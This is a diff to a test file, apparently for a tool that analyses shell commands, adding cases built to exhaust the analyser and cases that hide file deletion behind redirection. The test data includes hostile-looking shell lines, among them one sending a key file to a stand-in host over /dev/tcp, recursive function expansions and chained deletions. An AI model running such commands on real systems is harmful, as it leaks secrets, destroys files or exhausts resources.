@@ -247,6 +247,13 @@ describe("a whole text is unknown", () => {
       `${Array.from({ length: 20 }, (_, at) => `f${at}() { f${at + 1}; f${at + 1}; }`).join(";")};f0`,
     ],
     ["a command with 3,000 words", `rm ${"a ".repeat(3_000)}`],
+    ["a list of names that is written again and again", `x=$(find ${"a ".repeat(1_500)}); rm ${"$x ".repeat(1_900)}`],
+    ["an array that is written again and again", `a=(${"b ".repeat(1_900)}); rm ${'"${a[@]}" '.repeat(1_900)}`],
+    ["variables that are loaded again and again", `${". a;".repeat(1_000)}rm ${"$x ".repeat(1_900)}`],
+    ["a variable that exports itself twice", 'export PAGER=\'export PAGER="$PAGER"; export PAGER="$PAGER"\''],
+    ["traps that set traps", "trap 'trap \"trap a EXIT\" EXIT' EXIT;".repeat(1_500)],
+    ["commands that are run for each input of others", "seq 200 | parallel 'seq 200 | parallel \"seq 200 | parallel x {}\"'"],
+    ["many descriptors", `exec ${Array.from({ length: 900 }, (_, at) => `${at + 3}<<<a`).join(" ")};${"sh <&$x;".repeat(900)}`],
   ];
   for (const [title, text] of growing)
     it(`or a part of it, in ${title}`, () =>
@@ -367,6 +374,7 @@ check("descriptors stay open", [
   ["exec > /dev/tcp/h.example/9; cat key", "cat reads=/p/key hosts=h.example sends=file"],
   ["exec > a.sh; echo rm a; exec > /dev/tty; sh a.sh", "rm via=sh deletes=/p/a"],
   ["(exec 3<<< 'rm a'); bash <&3", "bash"],
+  ["cp /dev/stdin x <<< 'rm a'; sh x", "rm via=sh deletes=/p/a"],
   ["bash /dev/stdin <<< 'rm a'", "rm via=bash deletes=/p/a"],
   ["exec 3< a.txt; read -r x <&3; cat <<< x", "cat stdin=literal"],
 ]);
